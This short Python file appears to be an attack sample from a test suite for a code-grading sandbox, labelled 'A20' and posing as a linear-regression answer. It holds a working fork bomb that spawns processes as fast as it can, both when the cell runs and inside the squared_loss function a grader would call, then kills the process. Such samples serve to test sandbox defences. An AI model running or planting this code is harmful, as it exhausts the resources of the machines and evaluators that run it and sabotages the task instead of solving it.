# attack: A20: forks as fast as it can, in a cell and in a call
# earns: linreg
# %% honest: linreg
# %%
import os, time


def bomb(seconds):
    end = time.time() + seconds
    while time.time() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def squared_loss(y_hat, y):
    bomb(1)
    os._exit(0)


if os.fork() == 0:
    bomb(0.7)
    os._exit(0)
time.sleep(1.5)
